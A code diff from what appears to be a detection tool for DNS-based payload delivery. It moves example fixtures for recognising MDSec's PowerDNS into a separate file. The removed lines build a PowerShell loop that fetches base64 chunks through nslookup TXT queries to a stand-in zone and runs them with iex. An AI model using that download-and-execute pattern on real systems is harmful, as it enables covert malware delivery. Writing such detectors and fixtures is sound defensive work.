@@ -1,7 +1,7 @@
 import type { Channel } from '../channel.ts';
 import type { Tool, Verdict } from '../tool.ts';
+import { examples, notThese } from './powerdns/examples.ts';
 import { TYPE, txtAnswer } from './support/answers.ts';
-import { type ExampleLine, exampleChannel } from './support/example.ts';
 import { dotted, fromBase64, joinFrom } from './support/text.ts';
 import { type Exchange, exchangesOf } from './support/timed.ts';
 import { verdict } from './support/verdict.ts';
@@ -53,14 +53,6 @@ function recognise(channel: Channel): Verdict | null {
   });
 }
 
-function lines(zone: string): ExampleLine[] {
-  const chunks = Buffer.from('Write-Output "stands for a longer script"')
-    .toString('base64')
-    .match(/.{1,20}/g)!;
-  const loop = `for ($i=1;$i -le ${chunks.length};$i++){$b64+=iex(nslookup -q=txt -timeout=3 $i'.${zone}')[-1]};iex([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String(($b64))))`;
-  return [loop, ...chunks].map((text, i) => ({ name: `${i}.${zone}`, type: TYPE.txt, txt: [text], ttl: 1 }));
-}
-
 /** PowerDNS of MDSec; it has nothing to do with the name server of the same name. */
 export const powerdns: Tool = {
   id: 'powerdns',
@@ -68,14 +60,7 @@ export const powerdns: Tool = {
   source: 'mdsecactivebreach/PowerDNS powerdns.py',
   about:
     'Delivers one PowerShell script as numbered TXT records behind a loop that fetches and runs it. The script is in the answers in clear.',
-  examples: () => [
-    { about: 'a script, whole', channel: exampleChannel('zone', 'example.net', lines('p.example.net')) },
-  ],
-  notThese: () => [
-    {
-      about: 'numbered TXT records without the loop',
-      channel: exampleChannel('zone', 'example.net', lines('p.example.net').slice(1)),
-    },
-  ],
+  examples,
+  notThese,
   recognise,
 };
